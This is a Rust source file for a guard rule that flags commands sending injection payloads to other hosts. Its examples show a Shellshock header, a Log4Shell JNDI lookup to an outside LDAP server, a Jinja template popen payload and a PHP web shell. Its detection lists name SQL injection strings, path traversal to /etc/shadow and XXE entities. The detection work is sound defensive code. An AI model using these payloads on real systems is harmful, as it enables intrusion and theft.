//! `injected-text`: a call that sends or sets text that the receiving program would run: a function for an old shell,
//! a lookup for a Java logger, a template expression, an XML entity that names a file, or a page that runs its
//! requests.
//!
//! ## Why
//! Honest requests don't contain such text. Attackers use it to take over another machine. ATT&CK T1190, T1203, T1210.
//!
//! ## Examples
//! - asked: `curl -H 'User-Agent: () { :; }; /bin/id' http://10.0.0.5/cgi-bin/status`
//! - asked: `curl -H 'X-Api-Version: ${jndi:ldap://198.51.100.20/a}' http://10.0.0.5:8080/`
//! - asked: `curl 'http://10.0.0.5/?name={{cycler.__init__.__globals__.os.popen("id").read()}}'`
//! - asked: `echo '<?php system($_GET["c"]); ?>' > s.php`
//! - passes: `curl 'http://localhost:5000/?name={{7*7}}'`
//! - passes: `curl -d '{"template": "Hello {{name}}"}' https://api.example.com/v1/templates`
//! - passes: `grep -rn 'jndi:ldap' src`
//!
//! ## Instead
//! Test the project's own server on this machine, under `localhost`.

use guard_sdk::syntax::Command;
use guard_sdk::text::shorten;
use guard_sdk::{Outcome, Rule};

use super::Hit;
use crate::kinds::{CONNECTORS, SHOWING, WEB, has_any, is_any};
use crate::view::{View, name, texts};

pub(crate) const RULE: Rule = Rule {
    id: "injected-text",
    summary: "sends text that another program would run",
    default: Outcome::Ask,
    ceiling: Outcome::Deny,
};

pub(crate) fn check(view: &View<'_>) -> Option<Hit> {
    let by_shell = view.commands().find_map(sets_function).or_else(|| begins_with_function(view.text()));
    let by_page = || view.commands().find_map(writes_page);
    let by_shell = by_shell.or_else(by_page);
    let text = by_shell.or_else(|| view.commands().find_map(|command| sends(command, view)))?;
    Some(Hit::new(
        format!("Sends input that the receiving program would run as code: `{}`", shorten(&text)),
        "test the project's own server, under `localhost`",
    ))
}

/// Returns a variable whose value is a function followed by commands, which an old shell runs at its start.
fn sets_function(command: &Command) -> Option<String> {
    let assigned = command.assignments.iter().map(|set| set.value.text.as_str());
    let named = matches!(&*name(command), "export" | "env" | "declare" | "typeset");
    let exported = texts(command).filter(|_| named).filter_map(|text| Some(text.split_once('=')?.1));
    assigned.chain(exported).find(|value| is_function_with_more(value)).map(str::to_owned)
}

/// Returns whether the call's text is such a value.
fn begins_with_function(text: &str) -> Option<String> {
    let command = text.split_once("\"command\"")?.1.trim_start_matches([':', ' ', '"']);
    is_function_with_more(command).then(|| "() { ... }; ...".to_owned())
}

fn is_function_with_more(value: &str) -> bool {
    let rest = value.trim_start().strip_prefix("()").map(str::trim_start).and_then(|rest| rest.strip_prefix('{'));
    rest.and_then(|rest| rest.split_once('}')).is_some_and(|(body, behind)| {
        let more = behind.trim_start().strip_prefix(';').map(str::trim);
        body.contains([';', ':']) && more.is_some_and(|more| !more.is_empty())
    })
}

/// Returns a page, written to a file, that runs commands from requests.
fn writes_page(command: &Command) -> Option<String> {
    let writes = command.redirections.iter().any(|one| one.operator.starts_with('>') && one.operator != ">&")
        || name(command) == "tee";
    let bodies = command.redirections.iter().map(|one| one.body.as_str());
    texts(command).chain(bodies).filter(|_| writes).find(|text| runs_requests(text)).map(str::to_owned)
}

/// Returns whether a call that runs a text gets it from a request.
fn runs_requests(text: &str) -> bool {
    const RUNS: &[&str] = &[
        "system(",
        "exec(",
        "passthru(",
        "shell_exec(",
        "popen(",
        "eval(",
        "assert(",
        "proc_open(",
        "getRuntime().exec(",
    ];
    const REQUESTS: &[&str] =
        &["$_GET[", "$_POST[", "$_REQUEST[", "$_COOKIE[", "request.getParameter(", "Request.Item[", "Request[\""];
    RUNS.iter().any(|run| {
        text.split(run).skip(1).take(MOST).any(|rest| {
            let argument = rest.trim_start_matches(['@', ' ', '"', '\'', '`']);
            REQUESTS.iter().any(|request| argument.starts_with(request))
        })
    })
}

/// The maximum number of calls of one kind that are examined.
const MOST: usize = 16;

/// Returns such a text in a word that a client sends to another machine, or a lookup in any word.
fn sends(command: &Command, view: &View<'_>) -> Option<String> {
    let program = name(command);
    if is_any(&program, SHOWING) {
        return None;
    }
    let speaks = is_any(&program, WEB) || is_any(&program, CONNECTORS);
    let hosts = view.hosts(command);
    let is_far = hosts.is_empty() || hosts.iter().any(|host| view.is_foreign(host));
    let fed = command.redirections.iter().filter(|one| one.operator.starts_with("<<"));
    let fed = fed.flat_map(|one| [one.body.as_str(), one.target.text.as_str()]);
    texts(command).chain(fed).find(|text| is_lookup(text) || speaks && is_far && is_payload(text)).map(str::to_owned)
}

/// Returns whether the text is a lookup for a Java logger, plain or obfuscated.
fn is_lookup(text: &str) -> bool {
    if !text.contains("${") {
        return false;
    }
    let lower = text.to_ascii_lowercase();
    let schemes = ["jndi:ldap", "jndi:rmi", "jndi:dns", "jndi:iiop", "jndi:corba", "jndi:nis", "jndi:http"];
    has_any(&lower, &schemes) || has_any(&lower, &["${::-j}", "${lower:j}"])
}

fn is_payload(text: &str) -> bool {
    let function = text.find("() {").or_else(|| text.find("(){"));
    if function.and_then(|at| text.get(at..)).is_some_and(is_function_with_more) {
        return true;
    }
    let lower = text.to_ascii_lowercase();
    let plain = lower.replace("%2f", "/").replace("%20", " ").replace("%27", "'").replace("%2e", ".").replace('+', " ");
    let opens = has_any(&plain, &["{{", "${", "#{", "<%", "*{", "%7b%7b", "{%"]);
    let reaches = has_any(
        &plain,
        &[
            "__class__",
            "__globals__",
            "__mro__",
            "__subclasses__",
            "__import__",
            "popen(",
            "getruntime",
            ".exec(",
            "freemarker.template",
            "t(java.lang",
            "os.system",
            "child_process",
            "system(",
        ],
    );
    // A calculation reveals whether a template evaluates it.
    let sum = opens && has_any(&plain, &["{{7*7}}", "${7*7}", "{{7*'7'}}", "#{7*7}", "<%= 7*7 %>", "{{9*9}}"]);
    let entity = plain.contains("<!entity") && plain.contains("system");
    let climbs = plain.contains("://") && plain.contains("/../../") || plain.contains("=../../");
    let takes_file = has_any(&plain, &["/etc/passwd", "/etc/shadow", "/proc/self/environ", "win.ini"]);
    let in_address =
        plain.split_once("://").is_some_and(|(scheme, _)| scheme.ends_with("http") || scheme.ends_with("https"));
    let query = has_any(
        &plain,
        &[
            "union select",
            "union all select",
            "' or '1'='1",
            "' or 1=1",
            "\" or 1=1",
            "xp_cmdshell",
            "into outfile",
            "pg_sleep(",
            "'; drop table",
        ],
    );
    // A condition that is always true, after the end of a text.
    let always = has_any(&plain, &["' or 1=1", "' or '1'='1", "' or 'a'='a", "\" or 1=1", "') or ('1'='1"]);
    always || opens && reaches || sum || entity || climbs && takes_file || in_address && (takes_file || query)
}
